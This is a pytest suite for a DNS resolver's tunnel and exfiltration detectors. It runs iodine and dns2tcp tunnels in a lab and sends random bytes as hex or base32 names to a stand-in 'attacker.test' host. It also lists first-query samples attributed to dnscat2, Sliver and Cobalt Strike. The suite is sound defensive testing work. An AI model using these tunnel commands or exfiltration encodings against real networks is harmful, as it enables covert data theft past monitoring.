# SPDX-License-Identifier: GPL-3.0-or-later
"""Detectors in the real daemon: a real tunnel (iodine), exfiltration, what goes on beside it, and
what the operator is told and may say (status, explain, mute)."""
import base64
import os
import random
import shutil
import signal
import subprocess
import sys
import time

import dns.message
import dns.rcode
import pytest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(HERE, "..", "lab"), os.path.join(HERE, "..", "detect", "live")]
import resolvers  # noqa: E402
from attacker import Relay  # noqa: E402

WEIR = os.environ.get("WEIR", "build/weir")
SERVER, BEHIND = "127.53.7.1", "127.53.7.2"  # where tunnel.test is delegated; iodined itself
NAME_BYTES_MAX = 1000  # that may reach an attacker's server

needs_tunnel = pytest.mark.skipif(
    "WEIR_LAB_NAMESPACE" not in os.environ or os.getuid() != 0 or shutil.which("iodined") is None
    or not os.path.exists("/dev/net/tun"), reason="needs root, iodine and /dev/net/tun")


@pytest.fixture
def relay():
    """Stands before iodined, and counts what reaches it."""
    with Relay(SERVER, BEHIND) as r:
        yield r


@pytest.fixture
def iodined(tmp_path):
    with open(tmp_path / "iodined.log", "wb") as log:
        p = subprocess.Popen(["iodined", "-f", "-c", "-P", "secret", "-l", BEHIND, "10.99.0.1/24", "tunnel.test"],
                             stdout=log, stderr=log, stdin=subprocess.DEVNULL)
    time.sleep(0.5)
    assert p.poll() is None, (tmp_path / "iodined.log").read_text()
    yield p
    p.terminate()
    p.wait()


@pytest.fixture
def start_on_53(lab, tmp_path):
    """A Weir on an address of its own, port 53, which is where iodine asks."""
    started = []

    def start(config):
        w = resolvers.Weir(lab, str(tmp_path / f"weir{len(started)}"), WEIR, 53, f"127.0.0.{77 + len(started)}",
                           config=config)
        os.makedirs(w.directory, exist_ok=True)
        started.append(w)
        w.start()
        return w
    yield start
    for w in started:
        w.stop()


def run_iodine(weir, relay, tmp_path, qtype, limit_s, quiet_s=6, until="setup complete", more=()):
    """Until it has said that, or nothing has reached the server for a while; what it said."""
    path = tmp_path / f"iodine-{qtype}.log"
    with open(path, "wb") as log:
        p = subprocess.Popen(["iodine", "-f", "-r", "-P", "secret", "-T", qtype, *more, weir.address, "tunnel.test"],
                             stdout=log, stderr=log, stdin=subprocess.DEVNULL, start_new_session=True)
    end, last, last_at = time.monotonic() + limit_s, -1, time.monotonic()
    while time.monotonic() < end and p.poll() is None:
        n = relay.count()[0]
        if n != last:
            last, last_at = n, time.monotonic()
        if until in path.read_text(errors="replace") or time.monotonic() - last_at > quiet_s:
            break
        time.sleep(0.2)
    if p.poll() is None:
        os.killpg(p.pid, signal.SIGKILL)
        p.wait()
    return path.read_text(errors="replace")


@needs_tunnel
def test_without_detection_the_tunnel_works(start_on_53, relay, iodined, tmp_path):
    """Or the tests below would show nothing."""
    said = run_iodine(start_on_53({}), relay, tmp_path, "NULL", 60, 30, "Server tunnel IP", ("-m", "200"))
    assert "Server tunnel IP" in said, said  # it has logged in


@needs_tunnel
@pytest.mark.parametrize("qtype", ["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"])
def test_iodine_never_gets_through(start_on_53, lab, relay, iodined, tmp_path, qtype):
    """By the leak budget alone, as a tunnel would that nobody knows."""
    weir = start_on_53({"detect": {"enable": True, "tunnel.enable": False}})
    said = run_iodine(weir, relay, tmp_path, qtype, 25)
    packets, name_bytes = relay.count()
    print(f"iodine {qtype}: {packets} packets, {name_bytes} bytes of names")
    assert "setup complete" not in said, said
    assert name_bytes <= NAME_BYTES_MAX, f"{packets} packets, {name_bytes} bytes of names"
    # What the same client needs otherwise is there.
    sites = [z.name for z in lab.zones if z.name.startswith("site")][:20]
    assert len(sites) == 20
    for name in sites:
        assert weir.ask(name).rcode() == dns.rcode.NOERROR, name


@needs_tunnel
@pytest.mark.parametrize("qtype", ["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"])
def test_a_tunnel_that_knows_its_way_does_not_begin(start_on_53, relay, iodined, tmp_path, qtype):
    """Told the size of fragments, iodine needs few short names to set itself up: its first is known."""
    weir = start_on_53({"detect": {"enable": True, "leak.enable": False}})
    said = run_iodine(weir, relay, tmp_path, qtype, 25, 6, "never said", ("-m", "200"))
    packets, name_bytes = relay.count()
    print(f"iodine -m 200 {qtype}: {packets} packets, {name_bytes} bytes of names")
    assert "Server tunnel IP" not in said and "setup complete" not in said, said
    assert not [n for n in relay.names if n[1:2] in b"vV"], relay.names
    event = weir.wait_event(lambda e: e["weir"].get("trigger") == "detector")
    finding = event["weir"]["detections"][0]
    assert finding["detector"] == "tunnel" and finding["confidence"] == "high", finding


@needs_tunnel
def test_a_tunnel_that_looks_for_a_type_does_not_begin(start_on_53, relay, iodined, tmp_path):
    """Not told a type, iodine tries all of them."""
    weir = start_on_53({"detect": {"enable": True, "leak.enable": False}})
    path = tmp_path / "iodine.log"
    with open(path, "wb") as log:
        p = subprocess.Popen(["iodine", "-f", "-r", "-P", "secret", weir.address, "tunnel.test"], stdout=log,
                             stderr=log, stdin=subprocess.DEVNULL, start_new_session=True)
    time.sleep(15)
    if p.poll() is None:
        os.killpg(p.pid, signal.SIGKILL)
        p.wait()
    said = path.read_text(errors="replace")
    assert "Server tunnel IP" not in said, said
    assert not [n for n in relay.names if n[1:2] in b"yYvV"], relay.names


@pytest.fixture
def dns2tcpd(tmp_path):
    config = tmp_path / "dns2tcpd.conf"
    config.write_text(f"listen = {BEHIND}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = tunnel.test\n"
                      "resources = echo:127.0.0.1:9\n")
    with open(tmp_path / "dns2tcpd.log", "wb") as log:
        p = subprocess.Popen(["dns2tcpd", "-F", "-f", config], stdout=log, stderr=log, stdin=subprocess.DEVNULL)
    time.sleep(0.5)
    assert p.poll() is None, (tmp_path / "dns2tcpd.log").read_text()
    yield p
    p.terminate()
    p.wait()


def list_resources(weir, qtype):
    """What dns2tcp's client hears from its server."""
    try:
        return subprocess.run(["dns2tcpc", "-T", qtype, "-t", "1", "-z", "tunnel.test", weir.address],
                              capture_output=True, text=True, timeout=12, check=False).stdout
    except subprocess.TimeoutExpired as e:
        return (e.stdout or b"").decode()


needs_dns2tcp = pytest.mark.skipif(
    "WEIR_LAB_NAMESPACE" not in os.environ or os.getuid() != 0 or shutil.which("dns2tcpd") is None,
    reason="needs root and dns2tcp")


@needs_dns2tcp
@pytest.mark.parametrize("qtype", ["TXT", "KEY"])
def test_dns2tcp_does_not_begin(start_on_53, relay, dns2tcpd, qtype):
    """Its base64 does not survive letters in whatever case, but its names would arrive."""
    list_resources(start_on_53({}), qtype)
    assert any(b"=auth" in n.lower() for n in relay.names)  # or the rest would show nothing
    relay.names.clear()
    weir = start_on_53({"detect": {"enable": True, "leak.enable": False}})
    assert "echo" not in list_resources(weir, qtype)
    assert not [n for n in relay.names if b"=" in n], relay.names
    event = weir.wait_event(lambda e: e["weir"].get("trigger") == "detector")
    assert "dns2tcp" in event["weir"]["detections"][0]["text"]


@pytest.fixture
def watching(start_weir):
    return start_weir(config={"detect": {"enable": True}})


def leave(weir, domain, encode, n, size=24, source=None):
    """Send random bytes out as names of a domain; how many rcodes of each kind came back."""
    rng, rcodes = random.Random(4711), {}
    for _ in range(n):
        text = encode(rng.randbytes(size))
        reply = weir.ask(f"{text}.{domain}", "A", timeout_s=5, source=source)
        rcodes[reply.rcode()] = rcodes.get(reply.rcode(), 0) + 1
    return rcodes


def leaked(lab, mark):
    return sum(len(name) for name in {e["name"] for e in lab.bad_log(mark, "attacker")})


def hexadecimal(b):
    return b.hex()


def base32(b):
    return base64.b32encode(b).decode().rstrip("=").lower()


@pytest.mark.parametrize("encode", [hexadecimal, base32])
def test_bulk_exfiltration_ends(watching, lab, encode):
    mark = lab.bad_log_mark()
    rcodes = leave(watching, "attacker.test", encode, 100)
    assert leaked(lab, mark) <= NAME_BYTES_MAX
    assert rcodes.get(dns.rcode.NXDOMAIN, 0) > 50  # blocked
    assert rcodes.get(dns.rcode.NOERROR, 0) < 20
    event = watching.wait_event(lambda e: e["weir"].get("trigger") == "detector")
    finding = event["weir"]["detections"][0]
    assert finding["detector"] == "leak" and finding["confidence"] == "high"
    assert finding["action"] == "block" and finding["evidence"]["asked_bits"] > 2048
    assert event["event"]["kind"] == "alert" and event["event"]["action"] == "blocked"
    throttled = watching.wait_event(lambda e: e["event"]["action"] == "throttled")
    assert throttled["weir"]["detections"][0]["confidence"] == "medium"
    # Others of the same client go on.
    assert watching.ask("site00.com").rcode() == dns.rcode.NOERROR


@pytest.mark.parametrize("qtype, name", [
    ("MX", "0a6803580700000000b5d61cb537f5741b82bc3242ed7032ee2a567d839f.d523c401145b1a29dc8b43f8a031a38d4fedd2d0a88cbedc"
           "845fe3e51e39.a631ae8007b5a60add8b4821b2"),  # dnscat2
    ("TXT", "init.MRTDCLJRPQZA.base64"),  # DNSExfiltrator
    ("TXT", "ingesrkokreujy6zumkse43vobsxey3bnruwm4tbm5uwy2ltoruwgzlyobuwc3d.jmrxwg2lpovzq"),  # dnstt
    ("A", "baakbmp1y218"),  # Sliver
    ("A", "post.140.0346c53ab.456c54f2"),  # Cobalt Strike
])
def test_the_first_name_of_a_tool_does_not_leave(watching, lab, qtype, name):
    mark = lab.bad_log_mark()
    assert watching.ask(f"{name}.attacker.test", qtype).rcode() == dns.rcode.NXDOMAIN
    assert leaked(lab, mark) == 0
    event = watching.wait_event(lambda e: e["weir"].get("trigger") == "detector")
    finding = event["weir"]["detections"][0]
    assert finding["detector"] == "tunnel" and finding["action"] == "block"
    assert watching.ask("www.attacker.test").rcode() == dns.rcode.NOERROR


def test_the_client_is_told_why(watching):
    leave(watching, "attacker.test", hexadecimal, 80)
    reply = watching.ask("0123456789abcdef0123456789abcdef.attacker.test")
    texts = [o.text for o in reply.options if int(o.otype) == 15]
    assert reply.rcode() == dns.rcode.NXDOMAIN and texts and "detector leak" in texts[0]


def test_what_is_refreshed_is_charged(watching, lab):
    """In the last tenth of its life an answer is fetched anew (resolver.prefetch): that tells the same as a question."""
    spent, other = "127.0.0.41", "127.0.0.42"
    mark = lab.bad_log_mark()
    start = time.monotonic()
    for n, source in enumerate((spent, other)):
        assert watching.ask(f"short-{n}.attacker.test", source=source).rcode() == dns.rcode.NOERROR
    leave(watching, "attacker.test", hexadecimal, 40, source=spent)
    while time.monotonic() < start + 10.5:
        for n, source in enumerate((spent, other)):
            watching.ask(f"short-{n}.attacker.test", source=source)
        time.sleep(0.1)
    asked = [e["name"].rstrip(".").lower() for e in lab.bad_log(mark, "attacker")]
    assert asked.count("short-0.attacker.test") == 1
    assert asked.count("short-1.attacker.test") >= 2


def test_a_rule_goes_before_detectors(watching):
    watching.cli("allow", "attacker.test", "--reason", "ours")
    assert leave(watching, "attacker.test", hexadecimal, 80) == {dns.rcode.NOERROR: 80}
    watching.cli("undo", "attacker.test")
    assert dns.rcode.NXDOMAIN in leave(watching, "attacker.test", base32, 80)


def test_mute_and_what_is_told(watching):
    assert "No detector is muted" in watching.cli("mute").stdout
    watching.cli("mute", "leak", "--zone", "attacker.test", "--reason", "a test", "--for", "1h")
    assert "leak below attacker.test" in watching.cli("mute").stdout
    assert leave(watching, "attacker.test", hexadecimal, 80) == {dns.rcode.NOERROR: 80}
    assert watching.wait_event(lambda e: any(d.get("muted") for d in e["weir"].get("detections", [])))
    told = watching.cli("explain", "x.attacker.test").stdout
    assert "Detector leak: muted" in told and "of the budget is used up" in told
    watching.restart()  # mutes are kept
    assert "leak below attacker.test" in watching.cli("mute").stdout
    watching.cli("mute", "leak", "--zone", "attacker.test", "--undo")
    assert "No detector is muted" in watching.cli("mute").stdout
    assert dns.rcode.NXDOMAIN in leave(watching, "attacker.test", base32, 80)
    status = watching.cli("status").stdout
    assert "leak:" in status and "blocked" in status
    assert watching.cli("mute", "leek", "--zone", "x", "--reason", "y", "--for", "1h", check=False).returncode == 1
    assert watching.cli("mute", "leak", "--zone", "x", check=False).returncode == 2


def test_a_group_may_be_watched_only(start_weir):
    weir = start_weir(config={"detect": {"enable": True}, "groups": [
        {"name": "all", "clients": ["127.0.0.0/8"], "detect": ["leak=alert"]}]})
    assert leave(weir, "attacker.test", hexadecimal, 80) == {dns.rcode.NOERROR: 80}
    event = weir.wait_event(lambda e: e["event"]["action"] == "alerted")
    assert event["event"]["kind"] == "alert" and event["weir"]["detections"][0]["action"] == "alert"
